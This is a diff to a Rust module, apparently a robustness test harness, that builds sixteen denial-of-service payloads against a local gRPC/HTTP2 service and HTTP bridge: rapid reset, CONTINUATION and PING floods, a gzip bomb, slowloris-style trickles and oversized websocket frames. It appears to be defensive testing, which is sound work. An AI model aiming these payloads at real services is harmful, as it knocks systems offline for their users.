@@ -14,6 +14,8 @@ use super::http2::{
 
 const SESSION: &str = "/carillon.v1.HubService/Session";
 const EXECUTE: &str = "/carillon.v1.HubService/Execute";
+/// The first stream that no session of the attacker's has.
+const FIRST_STREAM: u32 = 3;
 /// Frames that are written at once.
 const BATCH: usize = 256;
 /// Most bytes of one connection: who has sent so much and was not ended, was let.
@@ -28,27 +30,38 @@ pub(super) enum Port {
     Bridge,
 }
 
+/// What is written first, for the bearer of a token, and then over and over.
+type Make = fn(&str) -> (Vec<u8>, Again);
+
+/// What is written over and over.
+#[derive(Clone)]
+enum Again {
+    /// The same.
+    Same(Vec<u8>),
+    /// More of it, from this stream on; streams have odd numbers, and each a new one.
+    From(fn(u32) -> Vec<u8>),
+}
+
 /// An attack.
 pub(super) struct Attack {
     pub(super) name: &'static str,
     pub(super) port: Port,
     /// Whether it is ended at once, or by a limit in time that is longer than a short run.
     pub(super) is_slow: bool,
-    /// What is written first, and then over and over.
-    make: fn(&str) -> (Vec<u8>, Vec<u8>),
+    make: Make,
 }
 
-const fn flood(name: &'static str, port: Port, make: fn(&str) -> (Vec<u8>, Vec<u8>)) -> Attack {
+const fn flood(name: &'static str, port: Port, make: Make) -> Attack {
     Attack { name, port, is_slow: false, make }
 }
 
-const fn slow(name: &'static str, port: Port, make: fn(&str) -> (Vec<u8>, Vec<u8>)) -> Attack {
+const fn slow(name: &'static str, port: Port, make: Make) -> Attack {
     Attack { name, port, is_slow: true, make }
 }
 
 /// All.
 pub(super) const ATTACKS: [Attack; 16] = [
-    flood("rapid_reset", Port::Grpc, |token| (session(token), Vec::new())),
+    flood("rapid_reset", Port::Grpc, |token| (session(token), Again::From(resets))),
     flood("continuation", Port::Grpc, |_| {
         let mut first = opening();
         first.extend(frame(HEADERS, 0, 1, &call(SESSION, &[])));
@@ -68,7 +81,7 @@ pub(super) const ATTACKS: [Attack; 16] = [
         block.extend([0xa1, 30]);
         block.extend([b'y'; 4_000]);
         block.extend([0xbe; 10_000]);
-        (opening(), frame(HEADERS, END_HEADERS, 1, &block))
+        (opening(), Again::Same(frame(HEADERS, END_HEADERS, 1, &block)))
     }),
     flood("empty_data", Port::Grpc, |token| (session(token), many(|_| frame(DATA, 0, 1, &[])))),
     flood("pings", Port::Grpc, |token| (session(token), many(|_| frame(PING, 0, 0, &[7; 8])))),
@@ -81,23 +94,23 @@ pub(super) const ATTACKS: [Attack; 16] = [
         first.extend(frame(HEADERS, END_HEADERS, 1, &call(SESSION, &[])));
         // A message of 4 GiB, as its length says.
         first.extend(frame(DATA, 0, 1, &[0, 0xff, 0xff, 0xff, 0xff]));
-        (first, frame(DATA, 0, 1, &[0; 16_384]))
+        (first, Again::Same(frame(DATA, 0, 1, &[0; 16_384])))
     }),
     flood("compressed", Port::Grpc, |_| {
         let mut first = opening();
         first.extend(frame(HEADERS, END_HEADERS, 1, &call(SESSION, &[("grpc-encoding", "gzip")])));
         // The beginning of what gzip makes of very many zeros, as a compressed message.
         first.extend(frame(DATA, 0, 1, &[1, 0, 0, 0, 10, 0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]));
-        (first, frame(DATA, 0, 1, &[0; 16_384]))
+        (first, Again::Same(frame(DATA, 0, 1, &[0; 16_384])))
     }),
-    slow("slow_preface", Port::Grpc, |_| (b"PRI * HTTP".to_vec(), b"/".to_vec())),
+    slow("slow_preface", Port::Grpc, |_| (b"PRI * HTTP".to_vec(), Again::Same(b"/".to_vec()))),
     slow("slow_call", Port::Grpc, |_| {
         let mut first = opening();
         first.extend(frame(HEADERS, END_HEADERS, 1, &call(EXECUTE, &[])));
-        (first, frame(DATA, 0, 1, &[0]))
+        (first, Again::Same(frame(DATA, 0, 1, &[0])))
     }),
     slow("slow_request", Port::Bridge, |_| {
-        (b"GET / HTTP/1.1\r\nhost: 127.0.0.1\r\nx: ".to_vec(), b"y".to_vec())
+        (b"GET / HTTP/1.1\r\nhost: 127.0.0.1\r\nx: ".to_vec(), Again::Same(b"y".to_vec()))
     }),
     flood("request_headers", Port::Bridge, |_| {
         (b"GET / HTTP/1.1\r\nhost: 127.0.0.1\r\n".to_vec(), many(|n| format!("x-{n}: y\r\n").into_bytes()))
@@ -108,7 +121,7 @@ pub(super) const ATTACKS: [Attack; 16] = [
         let part = |opcode: u8| [&[opcode, 0xfe, 0x10, 0, 0, 0, 0, 0][..], &[0; 4_096]].concat();
         let mut first = handshake();
         first.extend(part(2));
-        (first, part(0))
+        (first, Again::Same(part(0)))
     }),
 ];
 
@@ -127,8 +140,8 @@ fn session(token: &str) -> Vec<u8> {
     bytes
 }
 
-fn many(one: impl Fn(usize) -> Vec<u8>) -> Vec<u8> {
-    (0..BATCH).flat_map(one).collect()
+fn many(one: impl Fn(usize) -> Vec<u8>) -> Again {
+    Again::Same((0..BATCH).flat_map(one).collect())
 }
 
 fn handshake() -> Vec<u8> {
@@ -154,10 +167,9 @@ impl Attack {
         socket.set_nodelay(true)?;
         // Answers are read on the way, so that nobody waits for anybody.
         socket.set_nonblocking(true)?;
-        let (first, again) = (self.make)(token);
+        let (mut next, again) = (self.make)(token);
         let mut became = Became::default();
-        let mut stream = 3;
-        let mut next = first;
+        let mut stream = FIRST_STREAM;
         while Instant::now() < until && became.bytes < BYTES {
             match send(&mut socket, &next, until)? {
                 Some(bytes) => became.bytes += bytes,
@@ -169,20 +181,23 @@ impl Attack {
             if self.is_slow {
                 std::thread::sleep(TRICKLE);
             }
-            next = if self.name == "rapid_reset" { resets(&mut stream) } else { again.clone() };
+            next = match &again {
+                Again::Same(bytes) => bytes.clone(),
+                Again::From(more) => more(stream),
+            };
+            stream += 2 * BATCH as u32;
         }
         Ok(became)
     }
 }
 
 /// Calls that are cancelled at once.
-fn resets(stream: &mut u32) -> Vec<u8> {
+fn resets(first: u32) -> Vec<u8> {
     let headers = call(SESSION, &[]);
     let mut bytes = Vec::new();
-    for _ in 0..BATCH {
-        bytes.extend(frame(HEADERS, END_HEADERS, *stream, &headers));
-        bytes.extend(frame(RST_STREAM, 0, *stream, &8_u32.to_be_bytes()));
-        *stream += 2;
+    for stream in (first..).step_by(2).take(BATCH) {
+        bytes.extend(frame(HEADERS, END_HEADERS, stream, &headers));
+        bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
     }
     bytes
 }
